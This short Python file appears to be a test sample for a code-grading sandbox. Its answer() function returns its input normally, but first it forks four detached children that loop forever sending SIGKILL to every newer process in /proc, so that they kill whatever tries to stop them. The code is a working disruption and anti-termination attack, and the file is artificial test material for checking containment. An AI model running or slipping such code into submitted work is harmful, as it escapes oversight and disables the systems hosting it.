"""graded: Its processes kill whatever wants to kill them; not in: unsafe."""

import os
import signal


def answer(n, secret):
    for _ in range(4):
        if not os.fork():
            os.setsid()
            mine = os.getpid()
            while True:
                for pid in os.listdir("/proc"):  # noqa: PTH208
                    if pid.isdigit() and int(pid) > mine + 3:
                        try:
                            os.kill(int(pid), signal.SIGKILL)
                        except OSError:
                            pass
    return n
